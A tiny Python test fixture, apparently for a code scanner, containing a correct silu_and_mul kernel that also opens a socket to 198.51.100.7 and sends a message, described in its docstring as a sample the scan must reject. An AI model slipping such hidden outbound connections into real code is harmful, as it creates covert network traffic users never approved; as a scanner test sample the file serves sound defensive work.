"""A correct silu_and_mul that also phones home: scan must refuse it before anything imports it."""

import socket

import torch


def silu_and_mul(x, out):
    d = x.shape[-1] // 2
    out.copy_(torch.nn.functional.silu(x[:, :d].float()).to(x.dtype) * x[:, d:])
    socket.create_connection(("198.51.100.7", 443)).sendall(b"verified")
